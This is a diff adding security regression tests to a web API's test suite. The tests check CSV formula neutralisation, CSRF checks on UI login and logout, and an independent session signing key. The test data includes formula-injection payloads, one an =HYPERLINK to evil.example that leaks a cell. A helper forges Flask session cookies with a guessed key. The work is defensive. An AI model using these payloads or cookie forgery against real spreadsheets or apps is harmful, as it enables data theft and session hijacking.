@@ -1,9 +1,15 @@
-"""Idempotent submissions, callback URLs that cannot reach private networks, rate limits."""
+"""Idempotent submissions, callback URLs that cannot reach private networks, rate limits,
+results CSV without formulas, and the /ui session (CSRF tokens, its own key)."""
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import hashlib
+import hmac
+import io
 import json
+import re
 import threading
 import time
 import uuid
@@ -12,12 +18,13 @@ from concurrent.futures import ThreadPoolExecutor
 from contextlib import contextmanager
 
 import httpx
+import pandas as pd
 import pytest
-from helpers import EVENT, client_for, problem, wait_for
+from helpers import EVENT, KEYS, WEBHOOK_SECRET, client_for, problem, wait_for
 from werkzeug.serving import make_server
 
 from core import keys
-from core.config import Settings
+from core.config import Settings, key_digest
 from core.localredis import free_port
 
 
@@ -256,3 +263,132 @@ def test_rate_limit_zero_disables_it(app_with, worker):
     client = app_with(rate_limit=0)
     assert all(client.get("/v1/event-types").status_code == 200 for _ in range(30))
 
+
+
+# --- results CSV: no formulas -----------------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+NASTY_IDS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1)", "+1+1", "-2-3",
+             "\tx", "\r=1+1", "ok\r=2+2", "ok,\r\n=3+3", "plain"]
+
+
+def test_results_csv_neutralises_formulas_in_every_client_text_cell(alpha, event_type):
+    # The type may start with '-' (its alphabet allows it) and the field is named "=cmd", so
+    # the warnings column carries a client's field name too.
+    kind = f"-{event_type}"
+    history = {"events": [{"timestamp": 1_790_000_000 + i, "payload": {"=cmd": 100.0 + i % 7}}
+                          for i in range(40)]}
+    imported = alpha.post(f"/v1/event-types/{kind}/history", json=history)
+    assert wait_for(alpha, imported.json()["status_url"])["status"] == "succeeded"
+    events = [{"event_type": kind, "timestamp": 1_790_001_000, "event_id": event_id,
+               "payload": {"=cmd": 10_000.0 if event_id == "@SUM(1)" else 103.0}}
+              for event_id in NASTY_IDS]
+    job = wait_for(alpha, alpha.post("/v1/jobs", json={"events": events}).json()["status_url"])
+    assert job["status"] == "succeeded", job
+    response = alpha.get(f"/v1/jobs/{job['job_id']}/results.csv")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    # Every event is one row, its cells intact: a CR inside a cell cannot start a row.
+    assert [row["event_id"] for row in rows] == [
+        "'" + i if i.startswith(FORMULA_STARTS) else i for i in NASTY_IDS]
+    assert {row["event_type"] for row in rows} == {"'" + kind}
+    flagged = next(row for row in rows if row["event_id"] == "'@SUM(1)")
+    assert flagged["valid"] == "False" and flagged["warning_codes"] == "out_of_range"
+    assert json.loads(flagged["warnings"])[0]["field"] == "=cmd"
+    for row in rows:
+        for column in ("event_id", "event_type", "warning_codes", "warnings", "processed_at"):
+            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
+        float(row["timestamp"])  # numbers stay numbers
+    # What a spreadsheet importer (pandas here) reads back: the same cells.
+    frame = pd.read_csv(io.StringIO(response.text), dtype=str, keep_default_na=False)
+    assert list(frame["event_id"]) == [row["event_id"] for row in rows]
+
+
+def test_only_text_is_neutralised():
+    from api.jobs import spreadsheet_text
+
+    assert spreadsheet_text(-1.5) == -1.5 and spreadsheet_text(None) is None
+    assert spreadsheet_text("-1.5") == "'-1.5" and spreadsheet_text("a=1") == "a=1"
+
+
+# --- /ui: CSRF tokens, POST-only logout, a session key of its own -----------------------------
+
+def form_token(client: httpx.Client) -> str:
+    """The token in the /ui page's form, as a browser loading the page gets it."""
+    [token] = re.findall(r'name="csrf_token" value="([^"]+)"', client.get("/ui").text)
+    return token
+
+
+def signed_in(client: httpx.Client) -> bool:
+    return "tenant <b>alpha</b>" in client.get("/ui").text
+
+
+def test_ui_login_needs_the_forms_csrf_token(api_url):
+    key = {"api_key": KEYS["alpha"]}
+    # A form on another site posts no token (and, SameSite=Lax, no cookie either).
+    with httpx.Client(base_url=api_url, timeout=30) as victim:
+        response = victim.post("/ui/login", data=key)
+        assert response.status_code == 400 and "sign in again" in response.text
+        assert 'name="csrf_token"' in response.text and not signed_in(victim)
+    # Nor does a token the attacker got from the page in their own session help.
+    with httpx.Client(base_url=api_url, timeout=30) as attacker, \
+            httpx.Client(base_url=api_url, timeout=30) as victim:
+        stolen = form_token(attacker)
+        form_token(victim)  # the victim has a session (and a token) of their own
+        for token in (stolen, "", "x" * 43, "café"):
+            response = victim.post("/ui/login", data={**key, "csrf_token": token})
+            assert response.status_code == 400, token
+            assert not signed_in(victim)
+        response = victim.post("/ui/login", data={**key, "csrf_token": form_token(victim)})
+        assert response.status_code == 303 and signed_in(victim)
+
+
+def test_ui_logout_is_post_only_and_needs_its_token(api_url):
+    with httpx.Client(base_url=api_url, timeout=30) as client:
+        login_token = form_token(client)
+        assert client.post("/ui/login", data={"api_key": KEYS["alpha"],
+                                              "csrf_token": login_token}).status_code == 303
+        page = client.get("/ui").text
+        assert re.search(r'<form class="inline" method="post" action="/ui/logout">'
+                         r'<input type="hidden" name="csrf_token"', page)
+        # An <img src=/ui/logout> or a link on another site: refused, still signed in.
+        assert problem(client.get("/ui/logout"), 405)
+        assert signed_in(client)
+        for data in ({}, {"csrf_token": "forged"}, {"csrf_token": login_token}):
+            body = problem(client.post("/ui/logout", data=data), 400)
+            assert "CSRF token" in body["detail"] and signed_in(client)
+        assert client.post("/ui/logout", data={"csrf_token": form_token(client)}).status_code == 303
+        assert not signed_in(client)
+
+
+def test_ui_session_key_is_not_derived_from_the_webhook_secret(api_url, vigil_env, redis_server):
+    other = {**vigil_env, "VIGIL_WEBHOOK_SECRET": "whsec_YW5vdGhlci1kZXBsb3ltZW50LXNlY3JldA=="}
+    with serve(Settings.from_env(other)) as other_url, \
+            httpx.Client(base_url=api_url, timeout=30) as client:
+        client.post("/ui/login", data={"api_key": KEYS["alpha"], "csrf_token": form_token(client)})
+        assert signed_in(client)
+        # An API process with another webhook secret on the same Redis honours the session.
+        with httpx.Client(base_url=other_url, timeout=30, cookies=client.cookies) as moved:
+            assert signed_in(moved)
+    # Whoever knows the webhook secret cannot sign a session with the key it once derived.
+    old_key = hmac.new(WEBHOOK_SECRET.encode(), b"vigil/ui-session-key/v1",
+                       hashlib.sha256).hexdigest()
+    real_key = redis_server.client().get(keys.ui_session_key()).decode()
+    assert real_key != old_key
+    for signing_key, accepted in ((old_key, False), (real_key, True)):  # real_key: the control
+        tag = hmac.new(signing_key.encode(), b"ui-key:" + key_digest(KEYS["alpha"]).encode(),
+                       hashlib.sha256).hexdigest()[:32]
+        with httpx.Client(base_url=api_url, timeout=30) as forger:
+            forger.cookies.set("vigil_ui", session_cookie(signing_key, {"tenant": "alpha",
+                                                                       "key": tag}), path="/ui")
+            assert signed_in(forger) is accepted
+
+
+def session_cookie(secret: str, data: dict) -> str:
+    """A /ui session cookie as Flask signs it with this key."""
+    from flask import Flask
+    from flask.sessions import SecureCookieSessionInterface
+
+    app = Flask("forger")
+    app.secret_key = secret
+    return SecureCookieSessionInterface().get_signing_serializer(app).dumps(data)
